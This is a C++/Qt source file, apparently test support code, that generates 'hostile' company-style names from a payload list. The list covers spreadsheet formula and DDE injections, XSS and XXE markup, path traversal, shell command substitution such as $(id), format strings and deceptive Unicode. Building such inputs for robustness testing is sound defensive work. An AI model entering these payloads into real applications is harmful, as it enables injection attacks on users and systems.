#include "support/hostilenames.h"

using namespace Qt::StringLiterals;

namespace Support {

namespace {

QStringList payloads()
{
    return {
        // formulas
        u"=1+1"_s,
        u"+1+1"_s,
        u"-1+1"_s,
        u"@SUM(1+1)"_s,
        u"\t=1+1"_s,
        u"\r=1+1"_s,
        u"\n=1+1"_s,
        u"=HYPERLINK(\"http://example.com/?\"&A1,\"click\")"_s,
        u"=cmd|' /C calc'!A0"_s,
        u"=IMPORTXML(\"//a\",\"//b\")"_s,
        u"=DDE(\"cmd\";\"/C calc\";\"x\")"_s,
        u"\"=1+1"_s,
        u"';=1+1"_s,
        u",=1+1"_s,
        u";=1+1"_s,
        u"{=1+1}"_s,
        // markup
        u"<script>alert(1)</script>"_s,
        u"<img src=x onerror=alert(1)>"_s,
        u"<img src=\"file:///etc/hostname\">"_s,
        u"</title><h1>x</h1>"_s,
        u"</td></tr></table><p>x"_s,
        u"<!-- comment"_s,
        u"]]><b>x</b>"_s,
        u"<svg/onload=alert(1)>"_s,
        u"\"><iframe src=javascript:alert(1)>"_s,
        u"' onmouseover='alert(1)"_s,
        u"&lt;b&gt;"_s,
        u"&#60;b&#62;"_s,
        u"&amp;amp;"_s,
        u"<a href=\"http://example.com\">x</a>"_s,
        u"<style>*{display:none}</style>"_s,
        u"<base href=//example.com>"_s,
        u"<meta http-equiv=refresh content=0>"_s,
        u"<?xml version=\"1.0\"?>"_s,
        u"<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;"_s,
        // Markdown
        u"[x](http://example.com)"_s,
        u"![x](http://example.com/x.png)"_s,
        u"# heading"_s,
        u"- item"_s,
        u"1. item"_s,
        u"> quote"_s,
        u"a | b | c"_s,
        u"`code`"_s,
        u"**bold**"_s,
        u"~~~\nx\n~~~"_s,
        u"---"_s,
        u"http://example.com"_s,
        u"\\| escaped"_s,
        // paths and file names
        u"../../../etc/passwd"_s,
        u"/etc/passwd"_s,
        u"C:\\Windows\\System32"_s,
        u"CON"_s,
        u"nul.txt"_s,
        u"."_s,
        u".."_s,
        u"a/b"_s,
        u"name\u0000end"_s,
        u"-rf"_s,
        u"~root"_s,
        u"$(id)"_s,
        u"`id`"_s,
        u"%00"_s,
        u"%n%s%x"_s,
        u"%1 %2 %99"_s,
        u"{0}"_s,
        // characters
        u"\u202Egpj.exe"_s,
        u"a\u2066b\u2069"_s,
        u"\u200Fx"_s,
        u"\u0007bell"_s,
        u"\u001B[31mred"_s,
        u"\uFEFFmark"_s,
        u"zero\u200Bwidth"_s,
        u"line\nbreak"_s,
        u"carriage\rreturn"_s,
        u"line\u2028separator"_s,
        u"tab\tstop"_s,
        u"\uFFFE"_s,
        u"\U0001F469\u200D\U0001F4BB"_s,
        u"e\u0301\u0301\u0301\u0301"_s,
        u"مرحبا"_s,
        u"日本語"_s,
        u"İstanbul"_s,
        u"ﬁ"_s,
        u"\u00A0"_s,
        u"[]:*?/\\"_s,
        u"'quoted'"_s,
        u"History"_s,
        QString(QChar(0xD800)),
        QString(40000, u'x'),
        u"word "_s.repeated(3000),
        QString(300, u'W'),
    };
}

} // namespace

QStringList hostileNames()
{
    QStringList names;
    for (const QString &payload : payloads()) {
        for (const QString &frame : {u"%1"_s, u"Acme %1"_s, u"%1 Inc."_s, u" %1"_s, u"\"%1\""_s, u"%1\n%1"_s}) {
            QString name = frame;
            name.replace("%1"_L1, payload);
            names.append(name);
        }
    }
    names.removeDuplicates();
    return names;
}

} // namespace Support
